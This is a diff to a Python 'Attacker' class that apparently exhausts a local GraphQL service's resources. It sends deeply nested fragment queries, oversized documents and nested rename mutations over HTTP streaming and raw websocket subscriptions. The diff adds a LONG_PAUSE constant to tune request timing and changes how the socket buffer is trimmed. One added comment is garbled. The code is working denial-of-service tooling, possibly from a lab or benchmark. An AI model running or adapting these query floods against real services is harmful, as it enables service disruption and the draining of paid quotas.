@@ -27,6 +27,8 @@ ADDRESS = "127.0.0.2"
 PASSWORD = "seven-green-kites"
 #: Seconds between an answer and the next request of the same loop.
 PAUSE = 0.05
+#: The same of queries that cost nearly what one query may cost, and are answered.
+LONG_PAUSE = 0.25
 #: Seconds after which a connection whose client does not read moves no more.
 SETTLE = 3
 #: What the sign-up grant pays for, less a few.
@@ -156,7 +158,7 @@ class Attacker:
         hidden, large = document(f"{{chatHistory{{{nested(4, inline)}}}}}"), document(plain(CHATS, 30))
         rename = f"mutation($c:ID!){{renameConversation(input:{{conversationId:$c,title:\"x\"}}){{conversation{{chats{{{nested(4, inline)}}}}}}}}}"
         return [
-            self.repeat(request("/graphql/stream", hidden, access), request("/graphql/stream", large, access)),
+            self.repeat(*(request("/graphql/stream", query, access) for query in (hidden, large)), pause=LONG_PAUSE),
             self.repeat(request("/graphql", document(rename, c=conversation), access)),
             self.by_socket(access, hidden, large),
         ]
@@ -174,12 +176,12 @@ class Attacker:
                 writer.write(upgrade + frame(begin) + frame(b'{"type":"subscribe","id":"1","payload":' + payload + b"}"))
                 last = b""
                 while b'"complete"' not in last and b'"error"' not in last and (more := await reader.read(1 << 18)):
-                    last = (last + more)[-64:]
+                    last = last[-16:] + more
                 self.answers["socket"] += 1
                 writer.close()
             except OSError:
                 self.answers["closed"] += 1
-            await asyncio.sleep(PAUSE)
+            await asyncio.sleep(LONG_PAUSE)
 
     # Point 3: members of a body that are compared with each other.
 
